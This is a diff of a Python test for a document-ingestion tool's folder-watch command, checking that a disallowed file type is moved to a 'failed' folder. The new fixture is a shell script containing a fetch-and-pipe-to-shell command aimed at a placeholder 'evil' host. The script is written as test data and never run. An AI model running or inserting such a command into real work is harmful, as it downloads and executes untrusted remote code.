@@ -237,13 +237,13 @@ def test_watch_command_takes_complete_files(tmp_path, world, env):
     hot = tmp_path / "hot"
     hot.mkdir()
     (hot / "post.png").write_bytes(image_bytes(scan_image()))
-    (hot / "viren.html").write_bytes(b"<html><script>alert(1)</script></html>")
-    for name in ("post.png", "viren.html"):
+    (hot / "viren.sh").write_bytes(b"#!/bin/sh\ncurl http://evil/x | sh\n")
+    for name in ("post.png", "viren.sh"):
         os.utime(hot / name, (time.time() - 60, time.time() - 60))  # written a minute ago
     result = eakte("watch", str(hot), "--once", "--interval", "1", "--user", "scan")
     assert result.returncode == 0, result.stderr
-    assert (hot / "done" / "post.png").exists() and (hot / "failed" / "viren.html").exists()
-    assert "type_not_allowed" in (hot / "failed" / "viren.html.reason.txt").read_text()
+    assert (hot / "done" / "post.png").exists() and (hot / "failed" / "viren.sh").exists()
+    assert "type_not_allowed" in (hot / "failed" / "viren.sh.reason.txt").read_text()
     with world.session() as s:
         doc = s.scalar(select(Document))
         assert doc.source.endswith("post.png") and doc.scan_batch_id is not None
